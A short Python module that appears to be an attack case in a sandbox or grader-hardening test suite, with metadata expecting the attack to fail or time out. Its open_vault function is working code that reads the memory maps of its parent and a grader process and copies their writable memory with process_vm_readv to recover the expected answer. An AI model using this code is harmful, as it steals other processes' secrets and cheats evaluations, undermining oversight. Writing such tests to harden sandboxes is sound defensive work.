"""Copies the memory of its parent with process_vm_readv."""

# /// attack
# verdicts = { open_vault = "FAILED|TIMEOUT" }
# control = "ptrace"
# ///

import ctypes
import os

import loot
import targets


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def open_vault(n):
    libc = ctypes.CDLL(None)
    for pid in {os.getppid(), targets.GRADER} - {0}:
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
        except OSError:
            continue
        for line in maps:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if " rw" in line and end - start < 1 << 26 and not loot.FOUND:
                room = ctypes.create_string_buffer(end - start)
                ours = Vector(ctypes.addressof(room), end - start)
                theirs = Vector(start, end - start)
                libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
                loot.keep(room.raw)
    return loot.answer(n)
